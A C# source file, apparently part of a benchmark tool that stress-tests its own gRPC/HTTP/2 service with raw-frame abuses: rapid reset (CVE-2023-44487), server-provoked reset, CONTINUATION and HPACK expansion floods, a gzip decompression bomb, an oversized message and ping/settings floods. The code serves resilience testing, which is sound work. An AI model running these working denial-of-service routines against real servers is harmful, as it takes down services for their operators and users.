using System.IO.Compression;
using System.Text;
using GenAiLab.V1;
using Google.Protobuf;

namespace GenAiLab.Cli.Benchmarks.Abuse;

/// <summary>One way to misuse a connection.</summary>
/// <param name="Name">In tables.</param>
/// <param name="Reads">Whether the client takes what the server answers.</param>
/// <param name="SendAsync">Does it once, until it is done or the connection takes no more.</param>
internal sealed record Abuse(string Name, bool Reads, Func<RawConnection, CancellationToken, Task> SendAsync)
{
    public override string ToString() => Name;
}

/// <summary>
/// What a client can do to a service with HTTP/2 and gRPC that no honest one does. Each is bounded by itself, and none needs a
/// key: frames are read before anyone is asked for one.
/// </summary>
internal static class Abuses
{
    private const string Generate = "/genailab.v1.Orchestrator/Generate";
    private const int Rounds = 100;
    private const int Batch = 200;
    private const int Bomb = 512 << 20;
    private const ushort InitialWindowSize = 4;
    private const byte IndexOfTheNewest = 0x80 | 62;
    private static readonly byte[] Request = Http2Frames.Message(new GenerateRequest
    {
        Text = "a",
        MaxTokens = 16,
        Sampling = new SamplingProgram { Temperature = 0 },
    }.ToByteArray());

    private static readonly Lazy<byte[]> CompressedBomb = new(static () =>
    {
        using var compressed = new MemoryStream();
        using (var gzip = new GZipStream(compressed, CompressionLevel.SmallestSize))
        {
            var zeros = new byte[1 << 20];
            for (var written = 0; written < Bomb; written += zeros.Length)
            {
                gzip.Write(zeros);
            }
        }

        return compressed.ToArray();
    });

    /// <summary>All of them.</summary>
    public static IReadOnlyList<Abuse> All { get; } =
    [
        // CVE-2023-44487: work begun and taken back, faster than it ends.
        new("rapid reset", true, static (connection, cancellation) => ManyAsync(connection, stream => [.. Call(stream), .. Http2Frames.Reset(stream)], cancellation)),
        // CVE-2025-8671: the server is made to take it back itself.
        new("reset by the server", true, static (connection, cancellation) => ManyAsync(connection, stream => [.. Call(stream), .. Window(stream), .. Window(stream)], cancellation)),
        new("unknown methods", true, static (connection, cancellation) => ManyAsync(connection, static stream => Headers(stream, Http2Frames.CallHeaders($"/nobody.v1.Nothing/Method{stream}"), ends: true), cancellation)),
        new("calls without a message", true, static (connection, cancellation) => ManyAsync(connection, static stream => Headers(stream, Http2Frames.CallHeaders(Generate), ends: true), cancellation)),
        new("pings, answers unread", false, static (connection, cancellation) => ManyAsync(connection, static _ => Http2Frames.Frame(FrameType.Ping, 0, 0, new byte[8]), cancellation)),
        new("settings, answers unread", false, static (connection, cancellation) => ManyAsync(connection, static _ => Http2Frames.Setting(InitialWindowSize, 65_535), cancellation)),
        new("answers unread", false, UnreadAsync),
        new("a header without end", true, ContinuationAsync),
        new("a header of 64 KiB", true, static (connection, cancellation) => connection.SendAsync(SplitHeaders(1, [.. Http2Frames.CallHeaders(Generate), .. Http2Frames.Header("x", new string('a', 1 << 16))]), cancellation)),
        new("headers that expand", true, ExpandingHeadersAsync),
        new("a message of 4 GiB", true, EndlessMessageAsync),
        new("a message that expands", true, ExpandingMessageAsync),
        new("no HTTP/2", true, static (connection, cancellation) => connection.SendAsync(Encoding.ASCII.GetBytes("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"), cancellation)),
    ];

    private static byte[] Headers(int stream, ReadOnlySpan<byte> block, bool ends) =>
        Http2Frames.Frame(FrameType.Headers, (byte)(Http2Frames.EndHeaders | (ends ? Http2Frames.EndStream : 0)), stream, block);

    private static byte[] Call(int stream) =>
        [.. Headers(stream, Http2Frames.CallHeaders(Generate), ends: false), .. Http2Frames.Frame(FrameType.Data, Http2Frames.EndStream, stream, Request)];

    private static byte[] Window(int stream) => Http2Frames.Frame(FrameType.WindowUpdate, 0, stream, [0x7F, 0xFF, 0xFF, 0xFF]);

    private static async Task ManyAsync(RawConnection connection, Func<int, byte[]> one, CancellationToken cancellation)
    {
        for (var round = 0; round < Rounds; round++)
        {
            var first = round * Batch;
            if (!await connection.SendAsync(Enumerable.Range(first, Batch).SelectMany(number => one((2 * number) + 1)).ToArray(), cancellation))
            {
                return;
            }
        }
    }

    // As many calls as a connection may have, and no window for what they answer.
    private static async Task UnreadAsync(RawConnection connection, CancellationToken cancellation)
    {
        await connection.SendAsync(Http2Frames.Setting(InitialWindowSize, 0), cancellation);
        await connection.SendAsync(Enumerable.Range(0, 1024).SelectMany(static number => Call((2 * number) + 1)).ToArray(), cancellation);
    }

    private static async Task ContinuationAsync(RawConnection connection, CancellationToken cancellation)
    {
        await connection.SendAsync(Http2Frames.Frame(FrameType.Headers, 0, 1, Http2Frames.CallHeaders(Generate)), cancellation);
        var more = Http2Frames.Frame(FrameType.Continuation, 0, 1, Http2Frames.Header("x", new string('a', 1024)));
        for (var sent = 0; sent < 10_000 && await connection.SendAsync(more, cancellation); sent++)
        {
        }
    }

    // One entry of the dynamic table, named by a byte each time.
    private static async Task ExpandingHeadersAsync(RawConnection connection, CancellationToken cancellation)
    {
        byte[] block = [.. Http2Frames.CallHeaders(Generate), .. Http2Frames.Header("x", new string('a', 3_900), remember: true), .. Enumerable.Repeat(IndexOfTheNewest, 12_000)];
        for (var stream = 1; stream < 200 && await connection.SendAsync(Headers(stream, block, ends: true), cancellation); stream += 2)
        {
        }
    }

    private static async Task EndlessMessageAsync(RawConnection connection, CancellationToken cancellation)
    {
        await connection.SendAsync(
            (byte[])[.. Headers(1, Http2Frames.CallHeaders(Generate), ends: false), .. Http2Frames.Frame(FrameType.Data, 0, 1, Http2Frames.Prefix(uint.MaxValue))], cancellation);
        var data = Http2Frames.Frame(FrameType.Data, 0, 1, new byte[Http2Frames.LargestPayload]);
        for (var sent = 0; sent < 10_000 && await connection.SendAsync(data, cancellation); sent++)
        {
        }
    }

    private static async Task ExpandingMessageAsync(RawConnection connection, CancellationToken cancellation)
    {
        byte[] headers = Headers(1, [.. Http2Frames.CallHeaders(Generate), .. Http2Frames.Header("grpc-encoding", "gzip")], ends: false);
        var message = Http2Frames.Message(CompressedBomb.Value, isCompressed: true);
        await connection.SendAsync(
            (byte[])[.. headers, .. message.Chunk(Http2Frames.LargestPayload).SelectMany(static chunk => Http2Frames.Frame(FrameType.Data, 0, 1, chunk)), .. Http2Frames.Frame(FrameType.Data, Http2Frames.EndStream, 1, [])],
            cancellation);
    }

    private static byte[] SplitHeaders(int stream, byte[] block) =>
    [
        .. block.Chunk(Http2Frames.LargestPayload).Index().SelectMany(part => Http2Frames.Frame(
            part.Index == 0 ? FrameType.Headers : FrameType.Continuation,
            (part.Index + 1) * Http2Frames.LargestPayload >= block.Length ? Http2Frames.EndHeaders : (byte)0, stream, part.Item)),
    ];
}
